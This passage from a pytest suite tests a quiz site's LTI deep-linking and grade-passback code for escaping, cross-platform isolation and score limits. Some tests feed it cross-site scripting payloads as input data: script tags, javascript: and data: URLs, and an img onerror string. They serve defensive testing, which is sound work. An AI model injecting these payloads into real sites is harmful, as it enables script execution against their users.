    evil = '<script>alert("x")</script>'
    picker = lti_deep_link_launch(
        browser, registration, platform_keys, **{f"{LTI}context": {"id": "course-1", "label": "L", "title": evil}}
    )
    assert picker.status_code == 200 and evil.encode() not in picker.content


@pytest.mark.parametrize(
    "return_url",
    ["javascript:alert(document.domain)//", "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:alert(1)"],
    ids=["javascript", "data", "mixed-case"],
)
def test_a_deep_link_return_url_that_is_not_http_is_never_the_auto_submit_forms_action(
    browser, registration, platform_keys, synced, return_url
):
    picker = lti_deep_link_launch(browser, registration, platform_keys, settings={"deep_link_return_url": return_url})
    if picker.status_code != 200:
        _refused(picker)
        return
    response = browser.post(
        "/lti/deep-link/", {"launch_id": picker.context["launch_id"], "exercise": ["inverted-dropout"]}
    )
    body = response.content.decode().lower()
    assert "javascript:" not in body and "data:text" not in body, response.content[:600]


def test_the_response_jwt_names_the_platform_the_deployment_and_echoes_data(
    browser, registration, platform_keys, synced
):
    LtiDeployment.objects.create(registration=registration, deployment_id="dep-2", is_active=True)
    data = '"><img src=x onerror=alert(1)>'
    picker = lti_deep_link_launch(
        browser, registration, platform_keys, settings={"data": data}, **{f"{LTI}deployment_id": "dep-2"}
    )
    done = browser.post("/lti/deep-link/", {"launch_id": picker.context["launch_id"], "exercise": ["inverted-dropout"]})
    assert done.status_code == 200
    assert b"<img src=x" not in done.content
    token = done.context["fields"]["JWT"]
    keys = browser.get("/lti/jwks/").json()["keys"]
    public = JWK(**next(k for k in keys if k["kid"] == jwt.get_unverified_header(token)["kid"])).export_to_pem()
    message = jwt.decode(token, public, algorithms=["RS256"], audience="https://lms.example")
    assert message["iss"] == "tool-1" and message["aud"] in ("https://lms.example", ["https://lms.example"])
    assert message[f"{LTI}deployment_id"] == "dep-2"
    assert message[f"{DL}data"] == data
    assert message["exp"] > time.time() and message.get("nonce")


def test_a_deep_linking_launch_of_one_context_creates_assignments_only_there(
    browser, registration, platform_keys, synced
):
    lti_launch(
        Client(), registration, platform_keys, **{f"{LTI}context": {"id": "course-2", "label": "B", "title": "B"}}
    )
    picker = lti_deep_link_launch(browser, registration, platform_keys)
    browser.post("/lti/deep-link/", {"launch_id": picker.context["launch_id"], "exercise": ["inverted-dropout"]})
    assert set(Assignment.objects.values_list("course__lti_context__context__id_on_platform", flat=True)) == {
        "course-1",
        "course-2",
    }
    assert Assignment.objects.filter(course__lti_context__context__id_on_platform="course-1").count() == 1


# --- 5. grade passback --------------------------------------------------------------------------------------


@pytest.fixture
def launched(registration, platform_keys, synced):
    """learner-1 launched the inverted-dropout link of course-1: ``(account, assignment)``."""
    response, _, _ = lti_launch(Client(), registration, platform_keys)
    assert response.status_code == 200
    link = LinkedAssignment.objects.get()
    return _account_for("learner-1", registration), link.assignment


def _score(account, assignment) -> dict:
    passback.work_changed(learner_id=account.pk, exercise_id=assignment.exercise_id)
    row = ScorePassback.objects.select_related("assignment", "learner", "lti_user").get(
        learner=account, assignment=assignment
    )
    return passback.score_for(row, now=timezone.now())


def _done(user, score: float, **fields):
    submission = make_submission(user=user, **fields)
    return graded_at(submission, timezone.now(), score)


def test_an_example_run_never_reaches_the_platform_as_a_score(launched):
    account, assignment = launched
    _done(account, 1.0, examples_only=True)
    score = _score(account, assignment)
    assert score.get("scoreGiven") in (None, 0)


def test_a_system_error_never_reaches_the_platform_as_a_score(launched):
    account, assignment = launched
    submission = _done(account, 1.0)
    Submission.objects.filter(pk=submission.pk).update(verdict="system_error")
    assert _score(account, assignment).get("scoreGiven") in (None, 0)


def test_another_learners_work_never_counts(launched):
    account, assignment = launched
    other = get_user_model().objects.create_user(username="copycat")
    Enrolment.objects.create(course=assignment.course, user=other, role=Enrolment.Role.LEARNER)
    _done(other, 1.0)
    _done(account, 0.25)
    score = _score(account, assignment)
    assert score["scoreGiven"] == pytest.approx(0.25 * assignment.points)
    assert score["userId"] == "learner-1"


def test_an_override_in_another_course_never_counts_here(launched):
    from quizsite.courses.services import score_override_add

    account, assignment = launched
    elsewhere = make_course(learners=[account])
    other_assignment = make_assignment(elsewhere)
    score_override_add(assignment=other_assignment, learner=account, score=1.0, reason="other course", by=None)
    _done(account, 0.5)
    assert _score(account, assignment)["scoreGiven"] == pytest.approx(0.5 * assignment.points)


def test_a_score_never_exceeds_the_maximum(launched):
    account, assignment = launched
    submission = _done(account, 1.0)
    Submission.objects.filter(pk=submission.pk).update(score=7.5)  # a grader bug or a tampered row
    score = _score(account, assignment)
    assert score["scoreGiven"] <= score["scoreMaximum"]


def test_a_score_timestamp_never_goes_backwards_even_after_a_clock_ran_ahead(launched):
    account, assignment = launched
    passback.work_changed(learner_id=account.pk, exercise_id=assignment.exercise_id)
    row = ScorePassback.objects.get(learner=account)
    ahead = timezone.now() + timedelta(hours=1)
    ScorePassback.objects.filter(pk=row.pk).update(sent_timestamp=ahead)
    row.refresh_from_db()
    score = passback.score_for(row, now=timezone.now())
    assert datetime.fromisoformat(score["timestamp"]) > ahead


def test_consecutive_sends_have_strictly_increasing_timestamps(launched, monkeypatch):
    from quizsite.lti import platform

    account, assignment = launched
    sent = []
    monkeypatch.setattr(platform, "post_score", lambda line_item, score: sent.append(score))
    _done(account, 0.5)
    passback.work_changed(learner_id=account.pk, exercise_id=assignment.exercise_id)
    row = ScorePassback.objects.get(learner=account)
    fixed = timezone.now()
    monkeypatch.setattr(passback.timezone, "now", lambda: fixed)  # two sends in the same millisecond
    for _ in range(2):
        ScorePassback.objects.filter(pk=row.pk).update(version=F("version") + 1)
        assert passback.score_send(passback_id=row.pk) == "sent"
    stamps = [datetime.fromisoformat(score["timestamp"]) for score in sent]
    assert stamps[1] > stamps[0]


def test_scores_go_to_each_learners_own_sub(launched, registration, platform_keys, monkeypatch):
    from quizsite.lti import platform

    account, assignment = launched
    lti_launch(Client(), registration, platform_keys, sub="learner-2")
    second = _account_for("learner-2", registration)
    sent = []
    monkeypatch.setattr(platform, "post_score", lambda line_item, score: sent.append(score))
    for person in (account, second):
        _done(person, 0.5)
        passback.work_changed(learner_id=person.pk, exercise_id=assignment.exercise_id)
    for row in ScorePassback.objects.all():
        passback.score_send(passback_id=row.pk)
    assert sorted(score["userId"] for score in sent) == ["learner-1", "learner-2"]


def test_a_platform_cannot_claim_another_platforms_line_item_url(
    registration, platform_keys, platform_b, other_keys, synced
):
    """Line item URLs are unique tool-wide: platform B naming A's line item must not make our tool bind one
    platform's marks to the other's line item."""
    victim_url = "https://lms.example/course-1/lineitems/7/lineitem?type_id=7"
    b_ags = {"scope": ["https://purl.imsglobal.org/spec/lti-ags/scope/score"], "lineitem": victim_url}
    b_context = {f"{LTI}context": {"id": "course-b", "label": "B-1", "title": "B"}}
    squat = lti_launch(Client(), platform_b, other_keys, **{AGS: b_ags}, **b_context)[0]  # B first
    assert squat.status_code in (200, 400)
    assert lti_launch(Client(), registration, platform_keys)[0].status_code == 200  # then A, with its real URL
    for link in LinkedAssignment.objects.exclude(line_item=None).select_related("line_item", "resource_link"):
        assert link.line_item.context_id == link.resource_link.context_id, link
    # The URL is B's first (line item URLs are unique tool-wide): A's link is left without one rather than
    # bound across platforms. Blocking A's passback this way is a known limit (a registered platform can
    # deny another its line item), not a leak: no mark of A's course goes to B's row or with B's token.
    a_link = LinkedAssignment.objects.get(resource_link__context__deployment__registration=registration)
    assert a_link.line_item is None


def test_a_learner_who_only_self_studies_is_not_passed_back_for_a_course_they_left(launched):
    account, assignment = launched
    Enrolment.objects.filter(user=account).delete()
    _done(account, 1.0)
    assert passback.work_changed(learner_id=account.pk, exercise_id=assignment.exercise_id) == 0
